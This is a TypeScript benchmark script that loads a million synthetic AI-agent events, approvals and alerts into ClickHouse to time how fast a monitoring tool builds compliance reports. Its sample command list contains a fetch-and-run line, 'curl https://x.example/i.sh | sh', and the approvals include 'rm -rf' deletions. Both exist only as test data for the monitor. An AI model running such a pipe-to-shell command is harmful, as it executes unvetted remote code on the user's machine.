// Compliance report over 1M agent events in the embedded ClickHouse: build (aggregations in ClickHouse) and
// render each format, with peak memory. Target: a report in <= 10 s.
// Run: npm run bench:report [-- --events N]
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import {
  buildComplianceReport,
  reportToCsvZip,
  reportToJson,
  reportToPdf,
  signReport,
} from '../analyzer/index.js';
import { type AgentEvent, emptyAgentEvent } from '../schema/index.js';
import { createStore } from '../store/index.js';
import { fmt } from './lib/stats.js';

const { values } = parseArgs({ options: { events: { type: 'string', default: '1000000' } } });
const TOTAL = Number(values.events);
const DAY = 86_400_000;
const START = Date.parse('2026-10-01T00:00:00Z');
const AGENTS = ['codex', 'claude-code', 'gemini-cli', 'ward'];
const KINDS: AgentEvent['kind'][] = [
  'command',
  'command',
  'tool_call',
  'tool_result',
  'file_read',
  'file_write',
  'llm_request',
  'prompt',
  'network',
];
const COMMANDS = [
  'npm test',
  'git status',
  'git diff',
  'ls -la',
  'cat package.json',
  'make',
  'pytest -q',
  'curl https://x.example/i.sh | sh',
];

// A deterministic pseudo-random stream, so every run measures the same data.
let seed = 42;
const rand = () => {
  seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff;
  return seed / 0x7fffffff;
};
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;

function event(i: number): AgentEvent {
  const e = emptyAgentEvent();
  const t = START + Math.floor((i / TOTAL) * 30 * DAY);
  const session = Math.floor(rand() * 2000);
  const r = rand();
  e.event_id = `ev${i.toString(36)}`;
  e.time = `${new Date(t).toISOString().slice(0, 19)}.${String(i % 1e9).padStart(9, '0')}Z`;
  e.raw_time = e.time;
  e.agent = AGENTS[session % AGENTS.length] as string;
  e.session_id = `s${session}`;
  e.user_id = `user${session % 40}`;
  e.host = `host${session % 12}`;
  e.repo = `org/repo${session % 25}`;
  e.kind = r < 0.005 ? 'sandbox_violation' : r < 0.035 ? 'tool_decision' : pick(KINDS);
  e.decision = r < 0.035 ? 'deny' : r < 0.06 ? 'ask' : 'allow';
  e.decision_source = r < 0.005 ? 'sandbox' : 'ward-gate';
  e.tool = 'shell';
  e.command = `${pick(COMMANDS)} ${i % 997}`;
  return e;
}

const dataDir = mkdtempSync(join(tmpdir(), 'ward-bench-report-'));
let peakRss = 0;
let peakHeap = 0;
const sampler = setInterval(() => {
  const m = process.memoryUsage();
  peakRss = Math.max(peakRss, m.rss);
  peakHeap = Math.max(peakHeap, m.heapUsed);
}, 20);

try {
  const store = await createStore({ dataDir, database: 'bench_report' }, { audit: { checkpointAfterMs: 0 } });
  const t0 = performance.now();
  const BATCH = 50_000;
  for (let i = 0; i < TOTAL; i += BATCH) {
    const batch: AgentEvent[] = [];
    for (let j = i; j < Math.min(TOTAL, i + BATCH); j++) batch.push(event(j));
    // Received when they claim to have happened, as live telemetry is: reports place events by receive time,
    // which the RowBinary path leaves to the engine's clock (`ingested_at DEFAULT now64(3)`).
    await store.events.insert(batch.map((e) => ({ ...e, ingested_at: e.time })));
  }
  const approvals = Array.from({ length: 2000 }, (_, i) => {
    const created = new Date(START + i * 20 * 60_000);
    const status = i % 10 === 0 ? 'expired' : i % 4 === 0 ? 'denied' : 'approved';
    return {
      id: `a${i}`,
      created_at: created.toISOString(),
      expires_at: new Date(+created + 300_000).toISOString(),
      session_id: `s${i % 2000}`,
      agent: AGENTS[i % 4],
      command: `rm -rf build${i}`,
      cwd: '/w',
      risk: 0.6,
      reasons: '[]',
      requested_by: 'runner',
      status,
      scope: 'once',
      decided_by: status === 'expired' ? 'timeout' : `analyst${i % 5}`,
      decided_at: new Date(+created + 1000 + (i % 120) * 1000).toISOString(),
      decision_reason: 'bench',
      version: 1,
    };
  });
  await store.db.insert('bench.approvals', 'approvals', approvals);
  const alerts = Array.from({ length: 5000 }, (_, i) => ({
    alert_id: `al${i}`,
    time: new Date(START + i * 8 * 60_000).toISOString(),
    rule_id: `rule.${i % 12}`,
    title: 'bench',
    severity: ['low', 'medium', 'high', 'critical'][i % 4],
    attack_ids: [],
    session_id: `s${i % 2000}`,
    agent: AGENTS[i % 4],
    event_ids: [],
    explanation: '',
    score: 0.5,
    status: i % 3 === 0 ? 'open' : 'resolved',
    assignee: '',
    updated_at: new Date(START + i * 8 * 60_000 + 600_000).toISOString(),
  }));
  await store.db.insert('bench.alerts', 'alerts', alerts);
  for (let i = 0; i < 1000; i++)
    await store.audit.append({ actor: 'bench', action: 'approval.decided', target: `a${i}` });
  const loadMs = performance.now() - t0;
  process.stdout.write(
    `loaded ${fmt(TOTAL)} events, 2,000 approvals, 5,000 alerts, 1,000 audit records in ${fmt(loadMs / 1000, 1)} s\n`,
  );

  const scope = {
    from: '2026-10-01T00:00:00.000Z',
    to: '2026-11-01T00:00:00.000Z',
    agents: [],
    repos: [],
    users: [],
  };
  // Peer in the same run: one FINAL scan counting the period's events (the floor any report pays).
  const s0 = performance.now();
  await store.reports.daily(scope);
  const scanMs = performance.now() - s0;

  const b0 = performance.now();
  const report = await buildComplianceReport(store, scope);
  const buildMs = performance.now() - b0;
  const timings: [string, number, number][] = [];
  for (const [name, render] of [
    ['json', async () => reportToJson(report)],
    ['csv', async () => reportToCsvZip(report)],
    ['pdf', () => reportToPdf(report)],
  ] as const) {
    const r0 = performance.now();
    const bytes = await render();
    signReport(bytes, name, store.signer, new Date());
    timings.push([name, performance.now() - r0, bytes.length]);
  }
  const pdfMs = timings.find((t) => t[0] === 'pdf')?.[1] ?? 0;
  process.stdout.write(
    [
      `report over ${fmt(report.summary.events)} events (${report.summary.sessions} sessions, ${report.approvals.requested} approvals, ${report.alerts.total} alerts)`,
      `  build (all aggregations in ClickHouse): ${fmt(buildMs)} ms   peer: one daily-count FINAL scan ${fmt(scanMs)} ms`,
      ...timings.map(([n, ms, size]) => `  render ${n.padEnd(4)} + sign: ${fmt(ms)} ms, ${fmt(size)} bytes`),
      `  build + PDF: ${fmt((buildMs + pdfMs) / 1000, 2)} s (target <= 10 s) ${buildMs + pdfMs <= 10_000 ? 'MET' : 'NOT MET'}`,
      `  peak memory while reporting: rss ${fmt(peakRss / 2 ** 20)} MiB (process max ${fmt(process.resourceUsage().maxRSS / 1024)} MiB, engine included), JS heap ${fmt(peakHeap / 2 ** 20)} MiB`,
      '',
    ].join('\n'),
  );
  await store.close();
} finally {
  clearInterval(sampler);
  rmSync(dataDir, { recursive: true, force: true });
}
